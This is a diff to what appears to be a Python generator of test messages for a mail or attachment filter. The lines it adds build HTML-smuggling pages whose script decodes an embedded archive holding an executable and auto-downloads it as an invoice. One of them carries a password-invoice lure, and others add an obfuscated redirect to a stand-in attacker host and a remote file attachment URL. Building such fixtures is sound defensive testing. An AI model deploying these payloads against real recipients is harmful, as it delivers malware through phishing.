@@ -102,6 +102,12 @@ def structures():
         yield f"name of a file: {name}", parts(TEXT, file("", SCRIPT, disposition=line))
     yield "name in the description", parts(TEXT, b"Content-Type: application/octet-stream\r\nContent-Description: x.js\r\n"
                                                  b"Content-Transfer-Encoding: base64\r\n\r\n" + coded(SCRIPT) + b"\r\n")
+    smuggled = (b"<html><body><script>var d=atob('" + base64.b64encode(packed({"a.exe": PROGRAM})) + b"');var a=new "
+                b"Uint8Array(d.length);for(var i=0;i<d.length;i++)a[i]=d.charCodeAt(i);var l=document.createElement('a');"
+                b"l.href=URL.createObjectURL(new Blob([a]));l.download='invoice.zip';l.click();</script></body></html>")
+    yield "HTML behind the text", parts(TEXT, b"Content-Type: text/html\r\n\r\n" + smuggled + b"\r\n")
+    yield "attachment that lies elsewhere", parts(TEXT, b"Content-Type: application/pdf; name=x.pdf\r\nX-Mozilla-External-"
+                                                  b"Attachment-URL: file://192.0.2.77/x/a.exe\r\n\r\n")
     plain = b"Content-Transfer-Encoding: base64\r\n"
     yield "text called a program", body(b"text/plain; name=x.exe", coded(PROGRAM), plain)
     yield "text called a script", body(b"text/plain; name=x.js", coded(SCRIPT), plain)
@@ -191,10 +197,16 @@ def documents():
                                          '</foreignObject></svg>'),
                        ("entity", '<!DOCTYPE svg [<!ENTITY x "&#60;script>alert(1)&#60;/script>">]>' + svg + "&x;</svg>")]:
         yield f"script in SVG: {name}", attached("x.svg", text.encode(), b"image/svg+xml")
+    stored = base64.b64encode(packed({"a.exe": PROGRAM})).decode()
     host = "http://x1.evil.example/a"
     for name, text in [("refresh", f'<meta http-equiv="&#114;efresh" content="0;url={host}">'),
                        ("password", f'<form action="{host}"><input type="pass&#119;ord"></form>'),
                        ("script from elsewhere", f'<script src="{host}"></script>'),
+                       ("address in pieces", "<script>top['loc'+'ation']['hr'+'ef']=['ht','tp:/','/x1.evil.example'].join('')</script>"),
+                       ("file in a field", "<input type=hidden id=q value='" + stored + "'><p>Your invoice was saved below, please "
+                        "open it with the password of our last letter.</p><script>var b=atob(document.getElementById('q').value),"
+                        "u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);var a=document.createElement('a');"
+                        "a.href=URL.createObjectURL(new Blob([u]));a.download='x.zip';a.click()</script>"),
                        ("frame from elsewhere", f'<iframe src="{host}"></iframe>')]:
         yield f"page: {name}", attached("x.html", text.encode(), b"text/html")
     for name, text in [("picture", '<img src="fi&#108;e://192.0.2.77/x.png">'), ("style", '<link rel=stylesheet href="file://192.0.2.77/x">'),
